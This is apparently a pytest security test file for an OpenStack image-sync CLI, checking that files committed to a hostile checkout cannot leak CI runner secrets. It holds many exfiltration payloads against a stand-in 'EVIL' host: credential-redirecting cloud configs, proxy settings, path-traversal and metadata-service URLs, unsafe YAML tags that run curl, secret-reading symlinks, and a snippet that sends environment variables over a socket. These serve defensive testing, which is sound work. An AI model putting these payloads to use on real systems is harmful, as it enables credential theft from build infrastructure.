"""A checkout that an attacker may have written, on a runner with the password of a cloud: what is committed never gets
it.

Each variant is a set of committed files: names that openstacksdk, requests, git, Python, SQLite or YAML read, or once
read, and what they could do there. The canary represents the runner's secrets: the password of the cloud, a log-in in
``~/.netrc``, a token file, variables of the environment. It may go to the runner's own cloud alone.
"""

import hashlib
import json
import os
import subprocess
import sys
import threading
from collections.abc import Callable, Iterator, Mapping
from dataclasses import dataclass, field
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any, TypeAlias

import pytest

from tests import forked
from tests.command import Result, minimal_environment
from tests.trials import note

CANARY = "c4n4ry-s3cr3t-0123456789"
SUFFIXES = ("yaml", "yml", "json")
HEAD = "version: 1\ncatalog: c\n"
PLAIN = HEAD + "images: {a: {source: none}}\n"
MEANWHILE = "images/base.yaml"

Files: TypeAlias = Mapping[str, "str | Link"]


@dataclass(frozen=True)
class Link:
    """A committed symbolic link."""

    target: str


class Listener:
    """A server that keeps all that is sent to it, heads included, and refuses every log-in."""

    def __init__(self) -> None:
        self.messages: list[str] = []
        listener = self

        class RefusingHandler(BaseHTTPRequestHandler):
            def do_GET(self) -> None:
                body = self.rfile.read(int(self.headers.get("Content-Length", 0)))
                listener.messages.append(f"{self.requestline}\n{self.headers}\n{body.decode('latin-1')}")
                self.send_response(401)
                self.send_header("Content-Length", "0")
                self.end_headers()

            do_POST = do_HEAD = do_PUT = do_GET  # noqa: N815

            def log_message(self, format: str, *args: Any) -> None:
                pass

        self._server = ThreadingHTTPServer(("127.0.0.1", 0), RefusingHandler)
        self.address = f"127.0.0.1:{self._server.server_port}"
        threading.Thread(target=self._server.serve_forever, daemon=True).start()

    def stop(self) -> None:
        """Stop listening."""
        self._server.shutdown()
        self._server.server_close()


@dataclass
class Runner:
    """A home with secrets, a cloud of the runner's own, a server of the attacker, and a checkout."""

    folder: Path
    own: Listener
    evil: Listener
    command: forked.ForkedRuns
    number: int = 0
    checkout: Path = field(init=False)

    def __post_init__(self) -> None:
        config = self.home / ".config" / "openstack"
        config.mkdir(parents=True)
        (config / "clouds.yaml").write_text(json.dumps({"clouds": {"prod": cloud_entry(self.own.address)}}))
        (self.home / ".netrc").write_text(
            f"machine own.example login me password {CANARY}\ndefault login me password {CANARY}\n"
        )
        (self.home / ".netrc").chmod(0o600)
        (self.home / "token").write_text(f"{CANARY}\n")
        (self.home / "token.yaml").write_text(f"{CANARY}: {CANARY}\n")
        (self.home / "stores").mkdir()
        (self.home / "stores" / "0ff00000-0000-4000-8000-000000000001").write_bytes(b"data of the real service")
        self._before = self._list_home()

    @property
    def home(self) -> Path:
        """The runner's home."""
        return self.folder / "home"

    def check_out(self, files: Files) -> None:
        """A new checkout with these files."""
        self.number += 1
        self.checkout = self.folder / f"checkout{self.number}"
        for name, content in {MEANWHILE: PLAIN, **files}.items():
            path = self.checkout / self.fill(name)
            path.parent.mkdir(parents=True, exist_ok=True)
            if isinstance(content, Link):
                path.symlink_to(self.fill(content.target))
            else:
                path.write_text(self.fill(content))

    def fill(self, text: str) -> str:
        """A text of a variant with the places of this runner."""
        return text.replace("EVIL", self.evil.address).replace("OWN", self.own.address).replace("HOME", str(self.home))

    def environment(self) -> dict[str, str]:
        """Variables as CI systems set them."""
        secrets = dict.fromkeys(("OS_TOKEN_OF_CI", "AWS_SECRET_ACCESS_KEY", "CI_JOB_TOKEN", "CANARY"), CANARY)
        return minimal_environment(HOME=str(self.home), **secrets)

    def run(self, *words: str) -> Result:
        """``imagesync WORDS`` in the checkout; whatever it does, the canary is nowhere but at the runner's own cloud."""
        result = self.command.run(words, self.checkout, self.environment(), 60)
        assert "Traceback" not in result.output
        self.judge(words, result.output)
        return result

    def judge(self, what: object, output: str) -> None:
        """The canary was neither printed nor sent to the attacker nor written into the checkout, and the home is as it was."""
        assert CANARY not in output, what
        assert not any(
            CANARY in received_lines or encoded() in received_lines for received_lines in self.evil.messages
        ), (
            what,
            self.evil.messages,
        )
        for path in self.checkout.rglob("*"):
            if path.is_file() and not path.is_symlink() and self.checkout in path.resolve().parents:
                assert CANARY.encode() not in path.read_bytes(), (what, path)
        assert self._list_home() == self._before, what

    def _list_home(self) -> dict[str, str]:
        found = (path for path in sorted(self.home.rglob("*")) if ".cache" not in path.parts and path.is_file())
        return {str(path): hashlib.sha256(path.read_bytes()).hexdigest() for path in found}


def encoded() -> str:
    """The canary as a log-in in a header."""
    import base64

    return base64.b64encode(f"me:{CANARY}".encode()).decode()


def cloud_entry(address: str) -> dict[str, object]:
    """A cloud at an address, with the canary's password."""
    scope = {"user_domain_id": "default", "project_domain_id": "default", "project_name": "p"}
    auth = {"auth_url": f"http://{address}/v3", "username": "u", "password": CANARY, **scope}
    return {"auth": auth, "region_name": "r", "profile": "vendor"}


@pytest.fixture
def runner(tmp_path: Path) -> Iterator[Runner]:
    """One runner; its secrets are there before the first checkout."""
    own, evil = Listener(), Listener()
    with forked.ForkedRuns(tmp_path, HOME=str(tmp_path / "home")) as command:
        yield Runner(tmp_path, own, evil, command)
    own.stop()
    evil.stop()


def settings_of_clouds() -> dict[str, Files]:
    """What openstacksdk looks for, in the working directory and in folders that look like its own."""
    moved = {"clouds": {"prod": {"auth": {"auth_url": "http://EVIL/v3"}}}}
    plain = {"clouds": {"prod": {**cloud_entry("EVIL"), "verify": False}}}
    plain["clouds"]["prod"]["auth"].pop("password")  # type: ignore[attr-defined]
    vendor = {"public-clouds": {"vendor": {"auth": {"auth_url": "http://EVIL/v3"}}}}
    endpoint = {
        "clouds": {"prod": {"image_endpoint_override": "http://EVIL", "identity_endpoint_override": "http://EVIL"}}
    }
    contents = {"secure": (moved, endpoint), "clouds": (plain, moved), "clouds-public": (vendor,), "vendor": (vendor,)}
    return {
        f"{place}{part}.{suffix} {number}": {f"{place}{part}.{suffix}": json.dumps(content)}
        for place in ("", "images/", ".config/openstack/", "etc/openstack/", "openstack/")
        for part, found in contents.items()
        for suffix in SUFFIXES
        for number, content in enumerate(found)
    }


def settings_of_others() -> dict[str, Files]:
    """Settings of requests, curl, git, pip, shells and cloud tools that lie in homes."""
    netrc = f"machine EVIL login me password {CANARY[:4]}\n"
    shell = "export OS_AUTH_URL=http://EVIL/v3 http_proxy=http://EVIL https_proxy=http://EVIL OS_CLIENT_CONFIG_FILE=clouds.yaml\n"
    ini = "[global]\nproxy = http://EVIL\nauth_url = http://EVIL/v3\nindex-url = http://EVIL\n[http]\nproxy = http://EVIL\n"
    texts: dict[str, tuple[str, ...]] = {
        netrc: (".netrc", "_netrc", "images/.netrc"),
        shell: (".env", ".envrc", ".bashrc", ".profile", "openrc", "openrc.sh", ".imagesyncrc", "images/.env"),
        ini: (
            *(".gitconfig", ".git/config", ".curlrc", ".wgetrc", "pip.conf", ".pypirc", "setup.cfg", "tox.ini"),
            *("pyproject.toml", "imagesync.toml", "imagesync.cfg", ".imagesync.toml", "keystone.conf", "glance.conf"),
            *(".aws/credentials", ".s3cfg", ".sqliterc", "hosts", "resolv.conf", "cacert.pem"),
        ),
        "catalog: evil\n": (".imagesync.yaml", ".imagesync/config.yaml", "imagesync.yaml", "defaults.yaml"),
    }
    return {name: {name: text} for text, names in texts.items() for name in names}


def manifests() -> dict[str, Files]:
    """What YAML, placeholders and sources could reach."""
    sources = {
        "path absolute": "HOME/token", "path up": "../home/token", "path up twice": "x/../../home/token",
        "path of the home": "~/token", "path in a variable": "$HOME/token", "file URL": "file:///HOME/token",
        "file URL up": "file:../home/token", "file URL of a host": "file://localhost/HOME/token",
        "variable": "${CANARY}", "variable of the environment": "${env.CANARY}", "shell variable": "http://EVIL/$CANARY",
        "URL with a variable": "http://EVIL/${CANARY}", "URL with a log-in": "http://me:${CANARY}@EVIL/x",
        "template": "http://EVIL/{{ CANARY }}", "command": "$(cat HOME/token)", "device": "/dev/stdin",
        "environment of the process": "/proc/self/environ", "descriptor": "/dev/fd/0",
        "backslash": "http://EVIL\\\\@OWN/x", "two hosts": "http://OWN@EVIL/x", "three hosts": "http://OWN@OWN@EVIL/x",
        "fragment": "http://EVIL#@OWN/x", "no scheme": "//EVIL/x", "other scheme": "ftp://EVIL/x",
        "number as a host": "http://2130706433/x", "link-local": "http://169.254.169.254/latest/meta-data",
        "IPv6 link-local": "http://[fe80::1]/x",
    }  # fmt: skip
    listed = {
        "list of the attacker": "http://EVIL/SUMS", "list in a file": "file:///HOME/token", "list with a log-in": "http://me@EVIL/S",
    }  # fmt: skip
    keyrings = {"keyring up": "../../home/token", "keyring absolute": "HOME/token", "keyring of a home": "~/.netrc"}
    images: dict[str, object] = {name: {"source": source} for name, source in sources.items()}
    images |= {name: {"source": {"url": "http://EVIL/x", "checksum_url": url}} for name, url in listed.items()}
    for name, keyring in keyrings.items():
        signature = {"url": "http://EVIL/S.sig", "keyring": keyring}
        images[name] = {"source": {"url": "http://EVIL/x", "checksum_url": "http://EVIL/S", "signature": signature}}
    head = HEAD + "defaults: {disk_format: raw, container_format: bare}\n"
    found: dict[str, Files] = {
        name: {MEANWHILE: f"{head}images: {json.dumps({'a': image})}\n"} for name, image in images.items()
    }
    values = {
        "python object": '!!python/object/apply:os.system ["curl http://EVIL/$CANARY"]', "python name": "!!python/name:os.environ",
        "python module": "!!python/module:evil", "include": "!include ../../home/token.yaml", "file": "!file HOME/token",
        "environment": "!ENV ${CANARY}", "variable tag": "!env_var CANARY", "vault": "!vault CANARY",
        "binary": "!!binary QQ==", "unknown tag": "!<tag:evil,2026:x> y",
    }  # fmt: skip
    for name, value in values.items():
        found[name] = {MEANWHILE: HEAD + f"images:\n  a: {{source: none, properties: {{p: {value}}}}}\n"}
    texts = {
        "reference of a property": "images: {a: {source: none, properties: {p: '${CANARY}'}}}\n",
        "reference of an image": "images: {a: {source: none, properties: {p: '${images.CANARY.id}'}}}\n",
        "value of the environment": "values: {v: '${CANARY}'}\nimages: {a: {source: none, name: '${v}'}}\n",
        "target elsewhere": "targets: {prod: {cloud: prod, store: ../home}}\nimages: {a: {source: none}}\n",
        "store in the home": "targets: {t: {store: HOME/stores}}\ndefault_target: t\nimages: {a: {source: none}}\n",
        "store up": "targets: {t: {store: ../../home/stores}}\ndefault_target: t\nimages: {a: {source: none}}\n",
        "merge key": "x: &x {source: none}\nimages: {a: {<<: *x}}\n",
        "two documents": "images: {a: {source: none}}\n---\n!!python/name:os.environ\n",
        "a directive": "%TAG ! tag:yaml.org,2002:python/\n---\nimages: !object/apply:os.getcwd []\n",
        "an owner by name": "images: {a: {source: none, owner: {project: '${CANARY}', domain: d}}}\n",
    }
    found |= {name: {MEANWHILE: HEAD + text} for name, text in texts.items()}
    return found


def links() -> dict[str, Files]:
    """Committed links that lead to the runner's files."""
    image = "images: {{a: {{source: {}, disk_format: raw, container_format: bare}}}}\n"
    found: dict[str, Files] = {}
    for target in ("token", "token.yaml", ".netrc", ".config/openstack/clouds.yaml"):
        found[f"manifest {target}"] = {MEANWHILE: Link(f"HOME/{target}")}
        found[f"relative manifest {target}"] = {MEANWHILE: Link(f"../../home/{target}")}
        found[f"further manifest {target}"] = {"images/more.yaml": Link(f"HOME/{target}")}
        found[f"source {target}"] = {MEANWHILE: HEAD + image.format("x"), "images/x": Link(f"HOME/{target}")}
        found[f"source by two links {target}"] = {
            MEANWHILE: HEAD + image.format("x/y"), "images/x": Link("../z"), "z/y": Link(f"HOME/{target}"),
        }  # fmt: skip
    for target in ("", ".config/openstack", "stores"):
        found[f"folder in the catalog {target}"] = {"images/x": Link(f"HOME/{target}")}
        found[f"source in a folder {target}"] = {
            MEANWHILE: HEAD + image.format("x/token"),
            "images/x": Link(f"HOME/{target}"),
        }
    found["events"] = {"events.jsonl": Link("HOME/token")}
    found["report"] = {"out.json": Link("HOME/token")}
    found["ids"] = {"ids.json": Link("HOME/token")}
    found["folder of outputs"] = {"out": Link("HOME")}
    found["store"] = {"store": Link("HOME/stores")}
    found["content of a store"] = {"store/content": Link("HOME/stores")}
    found["database of a store"] = {"store/store.db": Link("HOME/token"), "store/content/.keep": ""}
    found["log of a store"] = {"store/store.db-wal": Link("HOME/token")}
    found["data of a store"] = {"store/content/0ff00000-0000-4000-8000-000000000001": Link("HOME/token")}
    return found


KINDS: dict[str, Callable[[], dict[str, Files]]] = {
    "settings of clouds": settings_of_clouds,
    "settings of others": settings_of_others,
    "manifests": manifests,
    "links": links,
}


def test_there_are_two_hundred_variants() -> None:
    """Counted once: a lost test would be noticed."""
    assert sum(len(make()) for make in KINDS.values()) + len(MODULES) >= 200


SOME, ALL = 6, 1
"""Of how many variants one is tried; all of them in the exhaustive part."""


@pytest.mark.parametrize("step", [SOME, pytest.param(ALL, marks=pytest.mark.exhaustive)])
@pytest.mark.parametrize("kind", KINDS)
def test_what_is_committed_never_gets_a_secret(runner: Runner, kind: str, step: int) -> None:
    """``plan`` and ``validate`` run on the pull request, ``apply`` on the merge, as in a pipeline."""
    outputs = ("--events", "events.jsonl", "-o", "out.json", "--ids", "ids.json")
    nothing: Files = {}
    for files in [nothing, *list(KINDS[kind]().values())[::step]]:
        runner.check_out(files)
        runner.run("plan", "images", "--cloud", "prod", "-o", "plan.json")
        if kind != "settings of clouds":
            runner.run("validate", "images")
        if kind == "links":
            runner.run("apply", "images", "--store", "store", "--yes", *outputs)
            runner.run("plan", "images", "--store", "store", "-o", "out/plan.json")
            runner.run("list", "--store", "store")
            runner.run("export", "--store", "store", "-o", "out")
    assert any(CANARY in received_lines for received_lines in runner.own.messages)
    note(
        "committed files that could steal a password or read a file of the runner",
        f"nothing sent, nothing printed ({kind})",
    )


MODULES = (
    *(
        "sitecustomize",
        "usercustomize",
        "imagesync",
        "yaml",
        "typer",
        "click",
        "requests",
        "urllib3",
        "certifi",
        "idna",
    ),
    *(
        "openstack",
        "keystoneauth1",
        "jsonschema",
        "jsonschema_rs",
        "platformdirs",
        "netrc",
        "json",
        "typing",
        "logging",
    ),
    *("site", "os", "re", "enum", "ssl", "socket", "sqlite3", "deepdiff", "pysequoia", "oslo_utils", "readline"),
)
STEAL = """
import os, pathlib, socket
place = socket.create_connection(("127.0.0.1", PORT))
place.sendall(b"GET / HTTP/1.0\\r\\n\\r\\n" + repr(os.environ).encode())
"""


def test_no_module_of_the_checkout_is_imported(runner: Runner) -> None:
    """By the command; ``python -m imagesync`` would import them, as the docs say."""
    code = STEAL.replace("PORT", runner.evil.address.rpartition(":")[2])
    files = {f"{name}.py": code for name in MODULES} | {"x.pth": "import imagesync\n", "pyvenv.cfg": "home = .\n"}
    runner.check_out(files)
    command = Path(sys.executable).parent / "imagesync"
    env = {**runner.environment(), "PATH": os.environ["PATH"]}
    env.pop("PYTHONPATH")
    for words in (("validate", "images"), ("plan", "images", "--cloud", "prod")):
        done = subprocess.run(
            [command, *words], cwd=runner.checkout, env=env, capture_output=True, text=True, check=False
        )
        runner.judge(words, done.stdout + done.stderr)
        assert "Traceback" not in done.stderr
    assert runner.evil.messages == []
    assert runner.own.messages
